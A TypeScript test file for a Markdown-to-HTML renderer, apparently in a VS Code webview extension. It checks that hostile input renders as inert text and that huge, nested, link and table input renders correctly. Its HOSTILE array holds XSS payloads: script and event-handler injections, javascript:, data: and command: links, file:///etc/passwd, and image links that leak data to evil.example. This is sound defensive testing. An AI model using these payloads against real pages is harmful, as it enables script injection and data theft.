import assert from 'node:assert/strict';
import { test } from 'node:test';

import { blocks } from '../src/webview/render';

const html = (text: string) => blocks(text, false).join('');
const ALLOWED =
  /^\/?(p|h[1-6]|strong|em|s|code|pre|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|hr|br|span)$/;

/** All that the page would make elements of; what follows the name is attributes. */
function elements(made: string): [string, string][] {
  return [...made.matchAll(/<([^\s>]+)([^>]*)>/g)].map(([, name, more]) => [
    name ?? '',
    more ?? '',
  ]);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<!-- --><svg/onload=alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<a href="command:workbench.action.terminal.new">run</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#x3c;b&#x3e;',
  '![leak](https://evil.example/?code)',
  '![leak][1]\n\n[1]: https://evil.example/?code',
  '[![leak](https://evil.example/?code)](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1)) [x](java&#115;cript:alert(1)) [x](<java\tscript:alert(1)>)',
  '[x](command:workbench.action.quit) [x](vscode://file/etc/passwd) [x](file:///etc/passwd)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[x](https://evil.example "title\\" onclick=alert(1)")',
  '<javascript:alert(1)> <command:x> <https://evil.example/"><img src=x>>',
  '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '~~~"onload="alert(1)\n<img src=x>\n~~~',
  '    <script>indented</script>',
  '|a<script>|b|\n|:-:|--:|\n|<img src=x>|`<b>`|',
  '# <script>\n\n> <img>\n\n- <iframe>',
  '`<script>`` <script> `',
  '"style="background:url(https://evil.example)',
  '\0<scr\0ipt>alert(1)</scr\0ipt>',
  '</pre></article></main><script>',
];

for (const text of HOSTILE) {
  test(`nothing but text comes of ${JSON.stringify(text).slice(0, 60)}`, () => {
    for (const made of [html(text), blocks(text, true).join('')]) {
      for (const [name, attributes] of elements(made)) {
        assert.match(name, ALLOWED);
        assert.match(attributes, /^( (class|start)="[^"<>]*")*$/);
      }
    }
  });
}

const HUGE = [
  ...[
    '> ',
    '- ',
    '* ',
    '[',
    '![',
    '](',
    '[a](',
    '[a](b)',
    '**a ',
    '*a_ ',
    '`',
    '``a`',
    '<',
    '<!--',
    '<a "',
  ],
  ...['|', '|a\n|-\n', '&', '\n- ', '>>>>>>>>>>>>>>>>>>>>>\n', '(', '\\', '[a]: b\n', 'a', '\n'],
];

test('what is huge or nested is drawn', () => {
  for (const part of HUGE) {
    for (const size of [299_000, 1_000_000]) {
      assert.ok(html(`a${part.repeat(size / part.length)}`).includes('a'));
    }
  }
});

test('a link is words and where it leads', () => {
  const address = (href: string) => ` <span class="address">(${href})</span>`;
  const docs = html('[the *docs*](https://example.org/a?b&c)');
  assert.equal(docs, `<p>the <em>docs</em>${address('https://example.org/a?b&amp;c')}</p>\n`);
  assert.equal(html('[a](shop.py "b") [](c)'), `<p>a${address('shop.py')} ${address('c')}</p>\n`);
  assert.equal(html('<https://example.org>'), '<p>https://example.org</p>\n');
});

test('Markdown is rendered, block by block', () => {
  assert.deepEqual(blocks('# A\n\n1. `b`\n2. **c**\n\n```py\nd < e\n```\n\n---\n', false), [
    '<h1>A</h1>\n',
    '<ol>\n<li><code>b</code></li>\n<li><strong>c</strong></li>\n</ol>\n',
    '<pre><code class="language-py">d &lt; e\n</code></pre>\n',
    '<hr>\n',
  ]);
  assert.match(html('|a|\n|-:|\n|1|'), /<td class="right">1<\/td>/);
});

test('more text leaves the blocks before it as they were', () => {
  const text = 'One.\n\n- two\n- three\n\n```\nfour\n```\n\nFive.\n';
  const whole = blocks(text, false);
  for (let end = 1; end < text.length; end++) {
    const part = blocks(text.slice(0, end), false);
    assert.ok(part.slice(0, -2).every((block, at) => block === whole[at]));
  }
});

test('a text in columns stays as it is', () => {
  assert.deepEqual(blocks('a  *b*\n<c>', true), ['<pre class="plain">a  *b*\n&lt;c&gt;</pre>']);
});
